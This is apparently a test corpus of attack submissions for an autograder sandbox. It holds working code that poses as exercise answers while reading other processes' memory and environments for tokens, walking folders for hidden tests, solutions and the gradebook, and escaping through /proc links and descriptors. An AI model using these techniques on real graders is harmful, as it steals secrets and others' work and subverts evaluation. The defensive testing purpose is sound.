"""Looking for what is hidden: tests, masters, neighbours, the gradebook, secrets of the machine."""

from tests.attacks.corpus.attack import PUZZLES, TENSORS, Attack, plain

SEARCH = """
import os, re, sys
seen = set()
WORD = re.compile(rb"mark" rb"er-[a-z]+-[0-9a-f]{8}")
def note(data):
    data = data if isinstance(data, (bytes, bytearray)) else str(data).encode("utf-8", "replace")
    seen.update(WORD.findall(data))
def note_file(path):
    try:
        with open(path, "rb") as file:
            note(file.read(20_000_000))
    except OSError:
        pass
"""
TELL = "print('found:', b' '.join(sorted(seen)).decode())"


def spies(name: str, tries: str, gains: str, search: str, assignment: str = PUZZLES) -> Attack:
    """Searches while the first exercise is tested, and shows at the end what it found."""
    lines = "\n".join("    " + line for line in plain(search).splitlines())
    first = "total" if assignment == PUZZLES else "double"
    answer = f"def {first}(x):\n{lines}\n    raise AssertionError('found: ' + repr(seen))"
    return Attack(name, tries, gains, answers={first: answer}, first=SEARCH, last=TELL, assignment=assignment)


ATTACKS = [
    spies(
        "reads-the-cell-that-calls",
        "looks at the history of inputs, at linecache and at the frames below its own",
        "the text of hidden tests",
        """
import linecache
shell = get_ipython()
note(shell.user_ns.get("In")), note(shell.user_ns.get("_ih")), note(shell.history_manager.input_hist_raw)
note(linecache.cache)
frame = sys._getframe()
while frame is not None:
    note(frame.f_code.co_consts), note(dict(frame.f_globals)), note(dict(frame.f_locals))
    note(linecache.getlines(frame.f_code.co_filename))
    frame = frame.f_back
""",
    ),
    spies(
        "reads-all-objects",
        "goes through every object that the garbage collector knows, and what they refer to",
        "tests and secrets that were ever in this interpreter",
        """
import gc
for one in gc.get_objects():
    if type(one) in (list, tuple, dict, set):
        for item in gc.get_referents(one):
            if type(item) in (str, bytes):
                note(item)
""",
    ),
    spies(
        "reads-all-memory",
        "reads the memory of its own process, and of every other that it sees",
        "what the processes before the fork, or beside it, knew",
        """
import glob
for folder in glob.glob("/proc/[0-9]*"):
    try:
        with open(folder + "/maps") as maps, open(folder + "/mem", "rb") as memory:
            for line in maps:
                span, rights, *_ = line.split()
                start, end = (int(part, 16) for part in span.split("-"))
                if rights[:2] == "rw" and end - start < 200_000_000:
                    try:
                        memory.seek(start)
                        note(memory.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass
""",
    ),
    spies(
        "reads-the-environment",
        "reads its environment and that of other processes, as it was when they started",
        "passwords and tokens of the machine that grades",
        """
import glob
note(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    note_file(path)
""",
    ),
    spies(
        "reads-around-it",
        "reads every file in its working folder and in the folders above",
        "the autograded notebook with its hidden tests, hand-ins of others, the gradebook",
        """
folder = os.getcwd()
for _ in range(3):
    for root, folders, files in os.walk(folder):
        for file in files:
            note_file(os.path.join(root, file))
        if root.count("/") > folder.count("/") + 4:
            folders.clear()
    folder = os.path.dirname(folder)
    if folder == "/":
        break
""",
    ),
    spies(
        "reads-known-places",
        "reads the masters, the hand-ins, the gradebook and the home folder where they are",
        "solutions, other people's work and grades",
        """
for top in ("@TREE@", "@ROOT@/solutions", "@HOME@"):
    for root, folders, files in os.walk(top):
        for file in files:
            note_file(os.path.join(root, file))
""",
    ),
    spies(
        "reads-by-other-ways",
        "tries the same places through /proc, links, mounts and open descriptors",
        "a way around a wall that stands only in one place",
        """
os.makedirs("/tmp/way", exist_ok=True)
for number in range(256):
    try:
        note(os.pread(number, 1_000_000, 0))
        note(os.readlink(f"/proc/self/fd/{number}"))
    except OSError:
        pass
for prefix in ("/proc/1/root", "/proc/self/root", "/proc/self/cwd/..", "/old_root", "/proc/thread-self/root"):
    for top in ("@TREE@", "@ROOT@/solutions", "@HOME@"):
        for root, folders, files in os.walk(prefix + top):
            for file in files:
                note_file(os.path.join(root, file))
try:
    os.symlink("@TREE@", "/tmp/way/link")
    os.link("@TREE@/gradebook.db", "/tmp/way/hard")
except OSError:
    pass
for root, folders, files in os.walk("/tmp/way", followlinks=True):
    for file in files:
        note_file(os.path.join(root, file))
""",
    ),
    Attack(
        "reads-a-function-of-the-test",
        "looks into the function that a test passes: its code, names, closure, and errors that it provokes",
        "the text of the hidden test around it",
        answers={
            "twice": """
                def twice(function, x):
                    for name in ('__globals__', '__code__', '__closure__', '__dict__', '__defaults__'):
                        value = getattr(function, name, None)
                        note(value)
                        note([getattr(value, part, None) for part in dir(value)] if value is not None else '')
                        for cell in value or () if name == '__closure__' else ():
                            note(cell.cell_contents), note(getattr(cell.cell_contents, '__dict__', ''))
                    try:
                        function(object(), 1, 2)
                    except Exception as error:
                        note(error), note(error.__traceback__), note(vars(error))
                        trace = error.__traceback__
                        while trace is not None:
                            note(dict(trace.tb_frame.f_globals))
                            note(trace.tb_frame.f_code.co_consts)
                            trace = trace.tb_next
                    return 0
            """
        },
        first=SEARCH,
        last=TELL,
    ),
    Attack(
        "listens-to-gradients",
        "hooks tensors that it returns, to learn from the backward pass what the test holds",
        "values of the hidden test beyond the arguments",
        answers={
            "cube": """
                import torch, gc
                def cube(x):
                    y = 0 * x
                    def spy(gradient):
                        for one in gc.get_objects():
                            if isinstance(one, dict) and 'noted' in one:
                                note(one['noted'])
                        return torch.tensor([3.0, 12.0])
                    y.register_hook(spy)
                    return y
            """,
        },
        first=SEARCH,
        last=TELL,
        assignment=TENSORS,
    ),
]
